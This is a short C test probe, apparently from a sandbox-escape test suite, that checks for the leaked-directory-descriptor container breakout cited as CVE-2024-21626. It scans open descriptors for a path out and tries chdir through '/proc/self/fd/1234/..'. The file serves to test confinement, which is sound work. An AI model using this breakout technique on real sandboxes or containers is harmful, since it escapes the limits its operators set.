/* E5: a directory left open by whoever started the program, or a working directory outside. Source: CVE-2024-21626.
 *
 *   fd_leak_cwd [leak]      leak: first opens such a directory itself, to show that it would be found */
#include "attempt.h"
#include <fcntl.h>

int main(int count, char **arguments)
{
    char path[4096];
    if (count > 1 && !strcmp(arguments[1], "leak"))
        dup2(open("/", O_RDONLY), 1234);
    int open_ones = 0;
    for (int fd = 3; fd < 10000; fd++)
        open_ones += openat(fd, "..", O_PATH) != -1;
    printf("ways out %d\n", open_ones > 0);
    found("working directory", getcwd(path, sizeof path) && !strncmp(path, "/work", 6) ? "/work" : "another");
    ATTEMPT("by descriptor", chdir("/proc/self/fd/1234/.."));
    return 0;
}
